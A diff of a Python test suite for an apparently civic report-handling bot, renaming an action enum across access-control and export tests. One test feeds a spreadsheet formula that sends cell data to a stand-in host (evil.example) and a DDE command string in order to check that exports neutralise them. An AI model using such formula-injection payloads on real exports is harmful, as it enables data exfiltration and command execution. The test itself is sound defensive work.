@@ -10,7 +10,7 @@ from datetime import timedelta
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from backoffice.keyboards import OA, OfficerCb
+from backoffice.keyboards import OfficerAction, OfficerCb
 from core.officers import create_invite, find_officer, redeem_invite
 from db.models import AccessRefusal, AuditEvent, Officer, Outbox, RelayQuestion, Report
 from tests.access_world import DUTY_CHAT, OTHER_GROUP, files_seen, make_world, seen_by
@@ -31,7 +31,8 @@ async def test_1_a_forged_press_shows_nothing_of_the_report(tmp_path):
     h, ani = world.h, world.actors["other"]
     try:
         for report in (await world.take("new"), await world.take("held"), await world.take("held")):
-            for button in (OA.ACK, OA.ON_THE_WAY, OA.DETAILS, OA.CLOSE, OA.MERGE):
+            for button in (OfficerAction.ACK, OfficerAction.ON_THE_WAY, OfficerAction.DETAILS, OfficerAction.CLOSE,
+                           OfficerAction.MERGE):
                 world.press(ani, OfficerCb(action=button, report=report.id).pack())
                 await h.settle()
             # Before: the refusal re-rendered the alert, description and all, into Ani's chat.
@@ -39,7 +40,7 @@ async def test_1_a_forged_press_shows_nothing_of_the_report(tmp_path):
             assert report.ticket not in seen_by(h, ani.chat_id)
         assert set(ani.user.callback_answers) == {"That report is not available to you."}
         # The same answer for an id that names no report: a refusal teaches nothing.
-        world.press(ani, OfficerCb(action=OA.DETAILS, report=999_999).pack())
+        world.press(ani, OfficerCb(action=OfficerAction.DETAILS, report=999_999).pack())
         await h.settle()
         assert ani.user.callback_answers[-1] == "That report is not available to you."
     finally:
@@ -134,7 +135,7 @@ async def test_5_answers_follow_the_report_not_the_officer_who_asked(h):
     await budi.say("Are they still there?")
     question = next(m for m in r.user.messages if m.text and "still there" in m.text)
     # Budi hands the report over to Dinsos before the resident answers.
-    await budi.tap_data(OfficerCb(action=OA.HANDOVER_TO, report=report.id, arg="dinsos").pack())
+    await budi.tap_data(OfficerCb(action=OfficerAction.HANDOVER_TO, report=report.id, arg="dinsos").pack())
     await budi.say("Needs rehabilitation")
     assert (await h.scalar(select(Report))).agency == "dinsos"
     await r.tap(question.buttons[0][0])
@@ -144,7 +145,7 @@ async def test_5_answers_follow_the_report_not_the_officer_who_asked(h):
     alert = next(m for m in dinsos.user.messages if m.text and report.ticket in m.text and m.buttons)
     dinsos.user.click(alert.buttons[0][0], message=alert)
     await h.settle()
-    await dinsos.tap_data(OfficerCb(action=OA.ASK, report=report.id).pack())
+    await dinsos.tap_data(OfficerCb(action=OfficerAction.ASK, report=report.id).pack())
     await dinsos.say("How many?")
     second = next(m for m in reversed(r.user.messages) if m.text and "How many?" in m.text)
     async with h.app.sessionmaker() as session:
@@ -173,7 +174,7 @@ async def test_7_exports_never_hand_a_spreadsheet_a_formula(h, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
     await full_report(r, description=formula)
     report = await h.scalar(select(Report))
-    await officer.tap_data(OfficerCb(action=OA.NOTE, report=report.id).pack())
+    await officer.tap_data(OfficerCb(action=OfficerAction.NOTE, report=report.id).pack())
     await officer.say("+cmd|' /C calc'!A0")
     win = window(h.region, Period.WEEKLY, h.clock.now().astimezone(h.region.tz).date())
     async with h.app.sessionmaker() as session:
@@ -200,10 +201,10 @@ async def test_8_only_the_holder_or_a_supervisor_merges_marks_duplicate_or_rejec
         sri = world.actors["same"]
         targets = [await world.take("held") for _ in range(3)]
         other = await world.take("new")
-        world.press(sri, OfficerCb(action=OA.MERGE, report=targets[0].id).pack())
-        world.press(sri, OfficerCb(action=OA.DUPLICATE, report=targets[1].id).pack())
-        world.press(sri, OfficerCb(action=OA.REJECT, report=targets[2].id).pack())
-        world.press(sri, OfficerCb(action=OA.REJECT, report=other.id).pack())
+        world.press(sri, OfficerCb(action=OfficerAction.MERGE, report=targets[0].id).pack())
+        world.press(sri, OfficerCb(action=OfficerAction.DUPLICATE, report=targets[1].id).pack())
+        world.press(sri, OfficerCb(action=OfficerAction.REJECT, report=targets[2].id).pack())
+        world.press(sri, OfficerCb(action=OfficerAction.REJECT, report=other.id).pack())
         await h.settle()
         # Even the conversations that would end in the change are not started.
         world.type(sri, other.ticket)
@@ -248,7 +249,7 @@ async def test_10_the_relay_passes_no_contact_either_way(h):
     from tests.test_backoffice_dispatch import _acknowledged_report
 
     budi, r, report = await _acknowledged_report(h)
-    await budi.tap_data(OfficerCb(action=OA.ASK, report=report.id).pack())
+    await budi.tap_data(OfficerCb(action=OfficerAction.ASK, report=report.id).pack())
     told = await budi.say("Call me on 0812-3456-7890 or t.me/budi_satpol, where exactly?")
     assert "phone number" in told.text and "link" in told.text  # the officer is told what went
     question = next(m for m in r.user.messages if m.text and "where exactly" in m.text)
@@ -308,7 +309,7 @@ async def test_11_one_rating_per_report_and_pledges_per_day(h):
     from tests.test_backoffice_dispatch import _acknowledged_report
 
     budi, r, report = await _acknowledged_report(h)
-    await budi.tap_data(OfficerCb(action=OA.CLOSE, report=report.id).pack())
+    await budi.tap_data(OfficerCb(action=OfficerAction.CLOSE, report=report.id).pack())
     await budi.tap("Not found at the location")
     await budi.tap("Skip")
     stars = next(m for m in r.user.messages if m.buttons and "⭐" in m.buttons[0][0])
